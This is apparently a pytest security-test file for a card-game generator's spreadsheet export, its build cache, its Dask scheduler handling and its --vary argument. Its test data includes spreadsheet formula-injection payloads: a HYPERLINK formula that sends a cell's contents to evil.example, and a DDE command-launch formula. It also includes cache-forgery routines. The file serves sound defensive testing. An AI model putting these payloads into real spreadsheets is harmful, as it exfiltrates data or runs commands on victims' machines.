"""Hostile input against what cardgen writes and runs (issue 26, second half): spreadsheet exports
that a spreadsheet program would run as formulas, a build cache that can be swapped, forged or
copied, the Dask path against real scheduler and worker processes, and --scheduler / --vary
values that used to crash or hang.

Every command runs as users run it: `python -m cardgen` in a subprocess, with a time limit.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
import yaml

from cardgen.load import bundled_games_dir

COMMAND_TIMEOUT_S = 120


def cardgen(*args: str, cwd: Path | None = None, env: dict | None = None, timeout: float = COMMAND_TIMEOUT_S) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "cardgen", *args], cwd=cwd, env=env, capture_output=True, text=True,
                          timeout=timeout)


# --- export: formula injection ------------------------------------------------------------------

# Texts a spreadsheet program would run (OWASP's list: = + - @ tab CR), and texts that only look
# like the writer's neutralisation (they must come back exactly as written, quotes and all).
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(1)"]
QUOTED = ["'=already quoted", "''+two quotes", "'plain quote"]


def hostile_llll(where: Path) -> Path:
    """llll with formula-like texts in its ability, commentary and name cells."""
    folder = where / "llll"
    shutil.copytree(bundled_games_dir() / "llll", folder)
    data = yaml.safe_load((folder / "cards.yaml").read_text(encoding="utf-8"))
    types = data["types"]
    for kind, text in zip(types, FORMULAS):
        kind["ability"]["en"] = text
    for kind, text in zip(types, QUOTED):
        kind["commentary"]["en"] = text
    types[-1]["name"]["en"] = "=1+1"
    (folder / "cards.yaml").write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return folder


def formula_like(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_neutralises_formulas_and_reads_back_as_the_same_game(fmt, tmp_path):
    folder = hostile_llll(tmp_path / "src")
    exported = tmp_path / f"cards.{fmt}"
    done = cardgen("export", str(folder), "--format", fmt, "--output", str(exported))
    assert done.returncode == 0, done.stderr
    if fmt == "csv":
        import csv

        cells = [cell for row in csv.reader(exported.read_text(encoding="utf-8").splitlines()) for cell in row]
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(exported)["Cards"]
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c for c in cells if formula_like(c)]
    for text in FORMULAS + ["=1+1"]:
        assert "'" + text in cells
    for text in QUOTED[:2]:
        assert "'" + text in cells  # quotes then a formula character: one more quote
    assert QUOTED[2] in cells  # a quote before plain text is left alone

    # the export, kept as the game's card list, is the same game card for card
    back = tmp_path / "back" / "llll"
    shutil.copytree(folder, back)
    (back / "cards.yaml").unlink()
    shutil.copyfile(exported, back / f"cards.{fmt}")
    original, again = (cardgen("export", str(f), "--format", "json") for f in (folder, back))
    assert original.returncode == again.returncode == 0, again.stderr
    assert json.loads(again.stdout)["cards"] == json.loads(original.stdout)["cards"]
    texts = {row["ability"]["en"] for row in json.loads(again.stdout)["cards"]}
    assert set(FORMULAS) <= texts


def test_neutralise_is_undone_exactly_by_the_reader():
    from cardgen.io.spreadsheet import neutralise, restore

    samples = ["", "'", "''", "=", "'=", "\t=x", "\tx", "\rx", "x=1", " =1", "'a", "''a", "-", "'-", "a'=b", "@", "＝全角"]
    for text in samples:
        assert restore(neutralise(text)) == text, text
        assert not formula_like(neutralise(text))


# --- the Dask path, as users run it -------------------------------------------------------------

CLUSTER_START_S = 60  # the most a scheduler and its worker may take to come up
CLUSTER_LIFETIME_S = 600  # the most they live (and the scheduler idles) if the fixture never stops them


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def stop(process: subprocess.Popen) -> None:
    """End `process` and everything it started (its own session): TERM, then KILL."""
    if process.poll() is None:
        try:
            os.killpg(process.pid, signal.SIGTERM)
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait(timeout=10)
        except ProcessLookupError:
            pass
    try:
        os.killpg(process.pid, signal.SIGKILL)  # a nanny's worker left behind
    except ProcessLookupError:
        pass


def readme_dask_commands() -> list[list[str]]:
    """The README's Dask commands (scheduler, worker, sweep) as argument lists, comments dropped."""
    text = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    block = text.split("**On a Dask cluster.**", 1)[1].split("```sh", 1)[1].split("```", 1)[0]
    lines = block.replace("\\\n", " ").splitlines()
    commands = [shlex.split(line.split("#", 1)[0]) for line in lines if line.strip()]
    assert [c[:2] for c in commands] == [["dask", "scheduler"], ["dask", "worker"], ["cardgen", "sweep"]], commands
    return commands


def as_run_here(command: list[str], address: str) -> list[str]:
    """A README command as this test runs it: by this interpreter (`python -m dask` is the `dask`
    command, so workers import the cardgen under test), against `address` instead of HOST."""
    return [sys.executable, "-m", command[0], *(address if a == "tcp://HOST:8786" else a for a in command[1:])]


@pytest.fixture(scope="module")
def dask_cluster(tmp_path_factory):
    """The README's `dask scheduler` and `dask worker` as real processes on 127.0.0.1, on a free
    port, without dashboards; the scheduler's address.  Stopped whatever the tests do."""
    pytest.importorskip("distributed")
    logs = tmp_path_factory.mktemp("dask")
    address = f"tcp://127.0.0.1:{free_port()}"
    scheduler, worker, _ = readme_dask_commands()
    started: list[subprocess.Popen] = []

    def start(command: list[str], *local: str) -> None:
        with open(logs / f"{command[1]}.log", "wb") as log:  # the child keeps its own copy of the handle
            started.append(subprocess.Popen([*as_run_here(command, address), *local, "--no-dashboard"], stdout=log,
                                            stderr=subprocess.STDOUT, start_new_session=True, cwd=logs))

    try:
        # each ends by itself too, should this process be killed before its teardown
        start(scheduler, "--host", "127.0.0.1", "--port", address.rsplit(":", 1)[1], "--idle-timeout", f"{CLUSTER_LIFETIME_S}s")
        start(worker, "--host", "127.0.0.1", "--lifetime", f"{CLUSTER_LIFETIME_S}s")
        from distributed import Client

        with Client(address, timeout=CLUSTER_START_S, set_as_default=False) as client:
            client.wait_for_workers(1, timeout=CLUSTER_START_S)
        yield address
    finally:
        for process in reversed(started):
            stop(process)


def without_run_line(text: str) -> list[str]:
    """A report's lines without the one that says where and how fast it ran."""
    return [line for line in text.splitlines() if not line.strip().startswith("(")]


def test_simulate_and_sweep_on_a_real_dask_cluster_give_the_local_tables(dask_cluster, tmp_path):
    simulate = ("simulate", "alice", "--games", "20", "--seed", "3")
    local = cardgen(*simulate, "--workers", "1")
    remote = cardgen(*simulate, "--executor", "dask", "--scheduler", dask_cluster)
    assert local.returncode == 0, local.stderr
    assert remote.returncode == 0, remote.stderr
    assert without_run_line(remote.stdout) == without_run_line(local.stdout)
    assert "success" in remote.stdout

    # the README's sweep as written, with fewer games (it exited 3, "No clients found")
    sweep = as_run_here(readme_dask_commands()[2], dask_cluster)
    sweep[sweep.index("--games") + 1] = "10"
    assert sweep[-4:] == ["--executor", "dask", "--scheduler", dask_cluster]
    local = subprocess.run([*sweep[:-4], "--out", str(tmp_path / "local")], capture_output=True, text=True, timeout=COMMAND_TIMEOUT_S)
    remote = subprocess.run([*sweep, "--out", str(tmp_path / "dask")], capture_output=True, text=True, timeout=COMMAND_TIMEOUT_S)
    assert local.returncode == 0, local.stderr
    assert remote.returncode == 0, remote.stderr
    assert "Dask cluster" in remote.stdout
    assert without_run_line(remote.stdout) == without_run_line(local.stdout)
    assert len(without_run_line(remote.stdout)) == 5  # title, header, three points
    assert (tmp_path / "dask" / "alice" / "alice-sweep.pdf").is_file()


@contextlib.contextmanager
def tcp_server(reply: bytes):
    """A TCP server on 127.0.0.1 that accepts every connection, sends it `reply` (nothing, or
    what a web server says) and then never another word; its address."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    accepted: list[socket.socket] = []
    done = threading.Event()

    def serve() -> None:
        server.settimeout(0.2)
        while not done.is_set():
            try:
                conn = server.accept()[0]
            except OSError:
                continue
            accepted.append(conn)
            if reply:
                conn.sendall(reply)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield f"tcp://127.0.0.1:{server.getsockname()[1]}"
    finally:
        done.set()
        thread.join(timeout=5)
        for conn in accepted:
            conn.close()
        server.close()


def command_for(name: str, out: Path) -> tuple[str, ...]:
    """A small `simulate` or `sweep` of alice."""
    if name == "sweep":
        return ("sweep", "alice", "--vary", "cards.red_place.count=2..3", "--games", "5", "--no-report", "--out", str(out))
    return ("simulate", "alice", "--games", "5")


HINT = "start one with `dask scheduler` and workers with `dask worker ADDRESS`, and give the address it prints"


@pytest.mark.parametrize("command, reply, said", [
    ("simulate", b"", "no Dask scheduler answered within 2 s"),
    ("sweep", b"", "no Dask scheduler answered within 2 s"),
    ("simulate", b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n",
     "the server there is not a Dask scheduler (its answer is not Dask's protocol)"),
], ids=["simulate-silent", "sweep-silent", "simulate-http"])
def test_a_scheduler_that_does_not_speak_dask_is_one_clear_line(command, reply, said, tmp_path):
    env = {**os.environ, "DASK_DISTRIBUTED__COMM__TIMEOUTS__CONNECT": "2s"}  # Dask's own setting; 30 s by default
    with tcp_server(reply) as address:
        started = time.monotonic()
        done = cardgen(*command_for(command, tmp_path), "--executor", "dask", "--scheduler", address, env=env, timeout=60)
    assert time.monotonic() - started < 30
    assert done.returncode == 1, done.stderr
    errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
    assert errors == [f"error: --scheduler {address}: {said}; {HINT}"]
    assert "Traceback" not in done.stderr


def test_tls_without_dasks_tls_settings_says_what_is_missing(tmp_path):
    env = {k: v for k, v in os.environ.items() if not k.startswith("DASK_DISTRIBUTED__COMM__TLS")}
    with tcp_server(b"") as address:
        done = cardgen(*command_for("simulate", tmp_path), "--executor", "dask", "--scheduler",
                       address.replace("tcp://", "tls://"), env=env, timeout=60)
    assert done.returncode == 1, done.stderr
    assert "tls:// needs Dask's TLS settings" in done.stderr and "Traceback" not in done.stderr


@pytest.mark.parametrize("command, address", [
    *(("simulate", a) for a in ("foo", "file:///etc/passwd", "tcp://[::1", "tcp://127.0.0.1:99999", "ucx://127.0.0.1:8786",
                                "tcp://127.0.0.1", "tcp://[zz]:8786", "tcp://127.0.0.1:0")),
    ("sweep", "file:///etc/passwd"), ("sweep", "tcp://[::1")])
def test_a_malformed_scheduler_is_a_usage_error(command, address, tmp_path):
    done = cardgen(*command_for(command, tmp_path), "--executor", "dask", "--scheduler", address)
    assert done.returncode == 2, done.stderr
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith("Error: Invalid value for '--scheduler':") and "tcp://HOST:PORT" in last, last
    assert "Traceback" not in done.stderr


# --- --vary bounds --------------------------------------------------------------------------------

HUGE = "9" * 400


@pytest.mark.parametrize("values, said", [
    (f"0..{HUGE}", "range 0..999"),
    (f"0.1..{HUGE}:0.5", "range 0.1..999"),
    (",".join(str(i) for i in range(20_000)), "the list 0,1,2"),
    ("0..1:0.0001", "range 0..1:0.0001"),
], ids=["huge-range", "huge-float-range", "list-of-20000", "fine-step"])
def test_a_vary_with_too_many_values_is_a_usage_error_before_any_point(values, said, tmp_path):
    started = time.monotonic()
    done = cardgen("sweep", "ohanatsumi", "--players", "3", "--vary", f"elf_urge_default={values}", "--games", "2",
                   "--no-report", "--out", str(tmp_path), "--workers", "1", timeout=30)
    assert time.monotonic() - started < 20
    assert done.returncode == 2, done.stderr
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith("Error: Invalid value for '--vary'") and said in last and "more than 1,000 values" in last, last
    assert len(last) < 300  # the 400 digits are not quoted back
    assert not (tmp_path / "ohanatsumi").exists()  # refused before a results folder is made


@pytest.mark.parametrize("game, vary", [("alice", f"cards.red_place.count={HUGE}"),
                                        ("ohanatsumi", f"elf_urge_default={HUGE}"),
                                        ("ohanatsumi", f"elf_urge_default={HUGE}..{HUGE}")],
                         ids=["count", "parameter", "one-value-range"])
def test_a_huge_vary_value_is_refused_by_the_game(game, vary, tmp_path):
    done = cardgen("sweep", game, "--vary", vary, "--games", "2", "--no-report", "--out", str(tmp_path), "--workers", "1",
                   *(("--players", "3") if game == "ohanatsumi" else ()), timeout=30)
    assert done.returncode == 1, done.stderr
    assert "nothing to run" in done.stderr and "Traceback" not in done.stderr and "internal error" not in done.stderr


# --- the build cache: swapped, forged and foreign entries ------------------------------------------

BUILD = ("build", "alice", "--only", "sheets", "--only", "rules", "--only", "tuckbox", "--only", "png")
OLD_MAGIC = b"cardgen-cache-1\n"  # entries before they were authenticated: a SHA-256 anyone can recompute


def build(out: Path, home: Path, *extra: str) -> None:
    done = cardgen(*BUILD, "--out", str(out), *extra, env={**os.environ, "CARDGEN_CACHE_HOME": str(home)})
    assert done.returncode == 0, done.stderr


def outputs(out: Path) -> dict[str, bytes]:
    folder = out / "alice"
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """(a build without the cache, a build with it by the user whose cache home is `home`, home)."""
    base = tmp_path_factory.mktemp("cache")
    home = base / "home"
    build(base / "plain", home, "--no-cache")
    build(base / "cached", home)
    assert outputs(base / "cached") == outputs(base / "plain")
    return base / "plain", base / "cached", home


def entries(out: Path) -> dict[Path, bytes]:
    """Each cache entry's file and its data (the bytes after the header: a 16-byte format line
    and a 32-byte checksum or tag)."""
    folder = out / ".cache" / "alice"
    found = {p: p.read_bytes() for p in sorted(folder.iterdir())}
    assert found and all(blob.startswith(b"cardgen-cache-") for blob in found.values())
    return {p: blob[48:] for p, blob in found.items()}


def forgeries(out: Path) -> dict[Path, bytes]:
    """What an attacker puts in each entry: every PDF entry holds another PDF, and the index of the
    PNG files' digests says that AL01's and AL02's faces are each other's (whose files are swapped)."""
    data = entries(out)
    pdfs = [p for p, d in data.items() if d.startswith(b"%PDF")]
    assert len(pdfs) >= 4
    forged = {p: data[pdfs[(i + 1) % len(pdfs)]] for i, p in enumerate(pdfs)}
    png = out / "alice" / "png"
    one, two = (png / "AL01-front.png").read_bytes(), (png / "AL02-front.png").read_bytes()
    (png / "AL01-front.png").write_bytes(two)
    (png / "AL02-front.png").write_bytes(one)
    digest_one, digest_two = (hashlib.sha256(b).hexdigest() for b in (one, two))
    for path, value in data.items():
        if value.startswith(b"{") and digest_one.encode() in value:
            index = json.loads(value)
            forged[path] = json.dumps({k: {digest_one: digest_two, digest_two: digest_one}.get(v, v)
                                       for k, v in index.items()}, sort_keys=True).encode()
    assert len(forged) == len(pdfs) + 1  # the PDFs and the PNG index
    return forged


@pytest.mark.parametrize("attack", ["swap", "forge-old-checksum"])
def test_a_swapped_or_forged_cache_entry_is_a_miss(attack, built, tmp_path):
    plain, cached, home = built
    out = tmp_path / "out"
    shutil.copytree(cached, out, symlinks=True)
    if attack == "swap":
        files = sorted((out / ".cache" / "alice").iterdir())
        blobs = [f.read_bytes() for f in files]
        for f, blob in zip(files, blobs[1:] + blobs[:1]):  # every entry moved to another's key
            f.write_bytes(blob)
    else:
        for path, data in forgeries(out).items():
            path.write_bytes(OLD_MAGIC + hashlib.sha256(data).digest() + data)
    build(out, home)
    assert outputs(out) == outputs(plain)


def test_a_cache_folder_from_another_user_is_never_trusted(built, tmp_path):
    """Entries made under another user's secret (a shipped `output/.cache`, a shared drive) are misses."""
    from cardgen.cache import Cache

    plain, cached, home = built
    out = tmp_path / "out"
    shutil.copytree(cached, out, symlinks=True)
    attacker_home = tmp_path / "attacker"  # the attacker's own cache home and secret
    attacker_home.mkdir(mode=0o700)
    (attacker_home / "cache-secret").write_bytes(os.urandom(32))
    (attacker_home / "cache-secret").chmod(0o600)
    attacker = Cache(out / ".cache" / "alice", secret=(attacker_home / "cache-secret").read_bytes())
    for path, data in forgeries(out).items():
        attacker.put(path.name, data)
    shipped = {p.name: p.read_bytes() for p in (out / ".cache" / "alice").iterdir()}
    trusting = tmp_path / "trusting"
    shutil.copytree(out, trusting, symlinks=True)

    build(out, tmp_path / "victim")  # another user, another secret
    assert outputs(out) == outputs(plain)
    rewritten = {p.name: p.read_bytes() for p in (out / ".cache" / "alice").iterdir()}
    assert all(rewritten.get(name) != blob for name, blob in shipped.items())  # each was a miss, made afresh

    # the forgery is real: the attacker's own build trusts it and writes what it says
    build(trusting, attacker_home)
    assert outputs(trusting) != outputs(plain)


def test_the_cache_secret_is_the_users_own(tmp_path):
    home = tmp_path / "home"
    build(tmp_path / "out", home)
    secret = home / "cache-secret"
    assert secret.stat().st_mode & 0o777 == 0o600 and len(secret.read_bytes()) == 32
    # a secret others can read is not used: nothing is cached, and the build still works
    secret.chmod(0o644)
    shutil.rmtree(tmp_path / "out" / ".cache")
    build(tmp_path / "out", home)
    assert not (tmp_path / "out" / ".cache" / "alice").exists()
    # nor one that is a link (to a file someone else can write)
    planted = tmp_path / "planted-secret"
    planted.write_bytes(os.urandom(32))
    planted.chmod(0o600)
    secret.unlink()
    secret.symlink_to(planted)
    build(tmp_path / "out", home)
    assert not (tmp_path / "out" / ".cache" / "alice").exists()
